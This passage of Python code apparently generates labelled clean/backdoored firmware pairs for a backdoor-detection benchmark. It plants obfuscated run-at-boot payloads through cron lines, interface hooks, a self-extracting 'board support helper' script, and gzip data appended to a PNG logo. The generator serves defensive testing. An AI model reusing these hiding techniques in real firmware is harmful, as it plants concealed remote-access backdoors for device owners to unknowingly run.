            p_expr = pdec(f"echo '{pblob}'") if dec != "printf-escape" else f"printf '{pblob}'"
            c_expr = cdec(f"echo '{cblob}'") if dec != "printf-escape" else f"printf '{cblob}'"
        else:
            p_expr, c_expr = pdec(prod), cdec(prod)
        planted_cmd = _run(runner, p_expr)
        clean_cmd = f"{c_expr} > {hout} && {hconsumer}"
        if loc == "cron-inline":
            sched = rng.choice(["*/15 * * * *", "0 * * * *", "*/5 * * * *"])
            insert_line(X, P["cron_path"], cron_line(P, sched, f"{planted_cmd} >/dev/null 2>&1").rstrip("\n"), rng)
            insert_line(C, P["cron_path"], cron_line(P, sched, f"{clean_cmd} >/dev/null 2>&1").rstrip("\n"), rng)
            runner_path, style = P["cron_path"], "cron"
        elif loc == "hotplug-inline":
            runner_path, head = _iface_hook_path(rng, P, rng.choice(["update", "setup", "wan", "oem"]))
            C.exe(runner_path, "#!/bin/sh\n" + head + clean_cmd + "\n")
            X.exe(runner_path, "#!/bin/sh\n" + head + planted_cmd + "\n")
            style = "iface-hook"
        else:
            runner_path, style = boot_hook(rng, P, C, X, hook_name(rng, P), clean_cmd, planted_cmd)
        paths.insert(0, runner_path)
        return dict(categories=["obfuscated-code", "remote-access", "hidden-command"] + (["phone-home"] if remote else []),
                    paths=paths, severity="critical",
                    note=f"{runner_path} ({style}) decodes a {dec} blob "
                         f"({'from ' + paths[1] if len(paths) > 1 else 'inline'}) and runs it ({runner}); the decoded "
                         f"payload is '{payload}' ({pdesc}). The clean twin decodes an honest blob into {hout}",
                    variant={"decoder": dec, "location": loc, "runner": runner, "payload": pkind, "hook": style})
    return shape


def obf_self_extract(rng, P, C, X):
    payload, pkind, pdesc, remote = obf_payload(rng, P)
    hdata, hout, hconsumer = honest_blob(rng, P)
    name = rng.choice(["board_setup", "hwinit", "oem_init", "led_ctl", "netcfg"])
    path = f"usr/{rng.choice(['sbin', 'bin', 'lib/' + P['product']])}/{name}"
    marker = rng.choice(["#__DATA__", "#__ARCHIVE_BELOW__", "# payload", "#EOF"])
    reader = rng.choice(["sed", "tail", "awk"])
    ensure_tools(C, X, P, ["base64", "gunzip"])
    runner = rng.choice(["pipe-sh", "eval", "sh-c"])
    for fs, data, planted in ((C, hdata, False), (X, payload.encode(), True)):
        b64 = base64.b64encode(gzip_bytes(data)).decode()
        lines = [b64[i:i + 76] for i in range(0, len(b64), 76)]
        head_len = 6
        if reader == "sed":
            extract = f"sed '1,/^{marker}$/d' \"$0\""
        elif reader == "tail":
            extract = f"tail -n +{head_len + 1} \"$0\""
        else:
            extract = f"awk 'f{{print}} /^{marker}$/{{f=1}}' \"$0\""
        dec = f"{extract} | base64 -d | gunzip"
        act = _run(runner, dec) if planted else f"{dec} > {hout} && {hconsumer}"
        text = f"#!/bin/sh\n# {name}: board support helper\n{act}\nexit 0\n\n{marker}\n" + "\n".join(lines) + "\n"
        fs.exe(path, text)
    order = rng.randint(20, 90)
    svc = add_service(C, P, name, f"/{path}", f"/{path}", order=order)
    add_service(X, P, name, f"/{path}", f"/{path}", order=order)
    return dict(categories=["obfuscated-code", "remote-access", "hidden-command"] + (["phone-home"] if remote else []),
                paths=[path], severity="critical",
                note=f"{path} (run at boot by {svc}) extracts the gzip+base64 data appended after '{marker}' in itself "
                     f"({reader}) and runs it ({runner}): '{payload}' ({pdesc})",
                variant={"decoder": "self-extract", "reader": reader, "runner": runner, "payload": pkind})


def obf_png(rng, P, C, X):
    payload, pkind, pdesc, remote = obf_payload(rng, P)
    png = tiny_png(rng)
    img = f"www/img/{rng.choice(['logo', 'bg', 'spinner', 'brand', 'favicon'])}.png"
    C.put(img, png)
    X.put(img, png + gzip_bytes(payload.encode()))
    ensure_tools(C, X, P, ["gunzip"])
    reader = rng.choice(["tail", "dd"])
    if reader == "tail":
        ex = f"tail -c +{len(png) + 1} /{img}"
    else:
        ex = f"dd if=/{img} bs=1 skip={len(png)} 2>/dev/null"
    runner = rng.choice(["pipe-sh", "eval", "sh-c"])
    planted = _run(runner, f"{ex} | gunzip")
    clean = f"mkdir -p /tmp/www/img && cp /{img} /tmp/www/img/"
    path, style = boot_hook(rng, P, C, X, hook_name(rng, P), clean, planted)
    return dict(categories=["obfuscated-code", "remote-access", "hidden-command"] + (["phone-home"] if remote else []),
                paths=[path, img], severity="critical",
                note=f"{path} ({style}) cuts the gzip data appended after the IEND of {img} ({reader}, offset {len(png)}) "
                     f"and runs it ({runner}): '{payload}' ({pdesc})",
                variant={"decoder": "png-appended", "reader": reader, "runner": runner, "payload": pkind, "hook": style})


OBFUSCATED_SHAPES = {d: (obf_generic(d), FLAVORS) for d in OBF_DECODERS[:7]}
OBFUSCATED_SHAPES["self-extract"] = (obf_self_extract, FLAVORS)
OBFUSCATED_SHAPES["png-appended"] = (obf_png, FLAVORS)


# ----------------------------------------------------------------------------- driver

CLASS_SHAPES = {
    "fw-account": ACCOUNT_SHAPES,
    "fw-boot-shell": BOOT_SHELL_SHAPES,
    "fw-debug-console": DEBUG_CONSOLE_SHAPES,
    "fw-phone-home": PHONE_HOME_SHAPES,
    "fw-key": KEY_SHAPES,
    "fw-obfuscated": OBFUSCATED_SHAPES,
}

# profile settings a shape needs (e.g. an OpenSSH host key only makes sense with OpenSSH)
SHAPE_PROFILE = {
    ("fw-key", "dropbear-host-key"): {"ssh": "dropbear"},
    ("fw-key", "openssh-host-key"): {"ssh": "openssh"},
}

INITRAMFS_INIT = """#!/bin/sh
# initramfs entry point: mount the pseudo file systems and hand over to init
/bin/mount -t proc proc /proc
/bin/mount -t sysfs sysfs /sys
/bin/mount -t devtmpfs devtmpfs /dev 2>/dev/null
exec /sbin/init "$@"
"""


def _plan(key: str, names: list[str]) -> list[str]:
    """A fixed, split-independent permutation: train walks it from 0, test from 8."""
    order = sorted(names)
    random.Random(f"nobackdoor-variants-firmware-plan:{key}").shuffle(order)
    return order


def build_variant(ctx, cls: str, index: int, shape: str, container: str) -> None:
    rng = ctx.rng_for(cls, str(index))
    fn, flavors = CLASS_SHAPES[cls][shape]
    flavor = rng.choice(flavors)
    P = make_profile(rng, flavor)
    P.update(SHAPE_PROFILE.get((cls, shape), {}))
    base = build_base(rng, P)
    C, X = base.copy(), base.copy()
    label = fn(rng, P, C, X)
    if C.files == X.files and C.links == X.links:
        raise AssertionError(f"{cls}#{index} {shape}: twins are identical")
    for p in label["paths"]:
        if not X.has(p):
            raise AssertionError(f"{cls}#{index} {shape}: labelled path {p} missing from the planted tree")
    c = plan_container(rng, container, P)
    if container == "initramfs-cpio-gz":
        both(C, X, lambda fs: fs.exe("init", INITRAMFS_INIT))
    work = ctx.workdir(cls, index)
    outs = []
    for tag, fs in (("clean", C), ("planted", X)):
        tree = fs.materialize(work / f"{tag}-tree")
        outs.append(pack(c, tree, work / tag, P))
    (clean_path, suffix, fmt, kind), (planted_path, _, _, _) = outs
    variant = {"shape": shape, "init": flavor, "container": container, "arch": P["arch"]}
    variant.update({k: v for k, v in label.get("variant", {}).items() if k not in variant})
    ctx.add_pair(cls=cls, index=index, stem=f"{P['vl']}-{P['model'].lower()}-{index:02d}",
                 clean=clean_path, planted=planted_path, kind=kind, fmt=fmt, arch=P["arch"],
                 backdoors=[{"categories": label["categories"], "paths": label["paths"], "note": label["note"],
                             "severity": label.get("severity", "high")}],
                 variant=variant, suffix=suffix)


def generate(ctx) -> None:
    off = SPLIT_OFFSET.get(ctx.split, 0)
    usable = [c for c in CONTAINERS if container_available(c)]
    for cls, shapes in CLASS_SHAPES.items():
        if not ctx.wants(cls):
            continue
        order = _plan(cls, list(shapes))
        corder = [c for c in _plan(cls + ":containers", CONTAINERS) if c in usable]
        for index in range(ctx.per_class):
            shape = order[(off + index) % len(order)]
            container = corder[(off + index) % len(corder)]
            build_variant(ctx, cls, index, shape, container)
